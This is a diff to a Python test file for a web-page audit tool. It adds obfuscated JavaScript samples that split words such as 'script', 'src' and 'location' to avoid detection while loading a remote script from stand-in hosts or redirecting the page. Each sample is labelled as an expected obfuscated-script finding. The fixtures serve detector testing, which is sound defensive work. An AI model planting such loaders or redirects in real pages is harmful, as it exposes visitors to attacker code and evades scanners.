@@ -312,7 +312,18 @@ def _theme_page(bundle: str) -> str:
     ("jQuery('body').append('<img src=' + jQuery('body').data('u') + '>');",
      [("obfuscated-script", "medium")]),
     (LOADER, [("obfuscated-script", "high")]),
-], ids=["easing", "slider", "redirect", "computed loader", "popup", "markup", "loader"])
+    # words split so no pattern reads them: a loader whose address the packed code joins
+    # (it was no finding), one joining its attribute's name, a redirect by a split name
+    ("var d=document,s=d.createElement('sc'+'ript');s['sr'+'c']='ht'+'tps:/'+'/cdn.fresh-"
+     "kit.example/x.js';d.getElementsByTagName('head')[0].appendChild(s);",
+     [("obfuscated-script", "high")]),
+    ("var d=document;var s=d.createElement('sc'+'ript');s.setAttribute('sr'+'c',['https:',"
+     "'','lines.fresh-kit.example','x.js'].join('/'));d.head.appendChild(s);",
+     [("obfuscated-script", "medium")]),
+    ("window['loc'+'ation']['hr'+'ef']=['https:','','go.fresh-kit.example','in'].join('/');",
+     [("obfuscated-script", "medium")]),
+], ids=["easing", "slider", "redirect", "computed loader", "popup", "markup", "loader",
+        "split loader", "split attribute", "split location"])
 def test_a_packed_plugin_in_a_theme_bundle(audit_html: AuditHtml, plugin: str,
                                            expected: list[tuple[str, str]]) -> None:
     """A packed plugin whose code only works on the page's own elements is a theme's, no
